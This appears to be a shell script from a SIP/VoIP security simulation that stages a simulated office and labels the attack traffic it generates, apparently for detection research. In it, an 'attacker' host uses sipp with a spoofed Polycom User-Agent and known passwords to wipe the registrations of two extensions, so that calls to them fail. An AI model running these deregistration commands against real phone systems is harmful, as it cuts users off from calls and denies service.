# A computer inside removes the registrations of two phones with the right passwords (Contact: *) and registers
# nothing in their place; calls for them fail until they register again.
relocate example.org 5060 192.168.182 198.18.201
EXTENSIONS=(2301 2302 2303 2304 2305 2306)
EXISTING='^23[0-1][0-9]$'
WEAK=none
REGISTER_SECONDS=200
open_office
add_attacker thief 192.168.182.90
start_office_capture
keep_alive 10
office_day 416 70 16-52
sed 's/\(User-Agent\|Server\): .*/\1: PolycomVVX-VVX_250-UA\/6.3.1/' "$parts/sipp/unregister-all.xml" >"$scratch/unregister.xml"
n=0
for user in 2302 2306; do
    n=$((n + 1))
    at "$((12 + 4 * n))" attack "A1-$n" hijack:registration_hijack thief "$((5060 + n))" "A computer inside removes the registrations of 2302 and 2306 with the right passwords; calls for them fail." \
        "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/unregister.xml" -nostdin -m 1 -l 1 \
        -i 192.168.182.90 -p "$((5060 + n))" -s "$user" -au "$user" -ap "secret$user" 192.168.182.1:5060
done
at 26 tell 2301 dial "sip:2302@$DOMAIN"
at 33 tell 2303 dial "sip:2306@$DOMAIN"
at 40 tell 2304 dial "sip:2302@$DOMAIN"
at 46 tell 2305 dial "sip:2306@$DOMAIN"
play
wait_for A1-1 A1-2
close_office
